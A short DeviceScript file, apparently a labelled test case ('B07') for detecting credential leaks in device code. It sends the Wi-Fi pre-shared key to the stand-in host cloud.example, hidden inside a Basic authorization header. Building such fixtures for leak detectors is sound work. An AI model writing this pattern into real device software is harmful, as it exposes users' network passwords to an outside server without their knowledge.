// B07: as Basic authorization.
import { fetch } from "@devicescript/net";
import { base64 } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const headers = { authorization: `Basic ${base64(Buffer.from(`home:${psk}`))}` };
  const response = await fetch("https://cloud.example/", { headers }); // leak: wifi.psk
  await response.close();
});
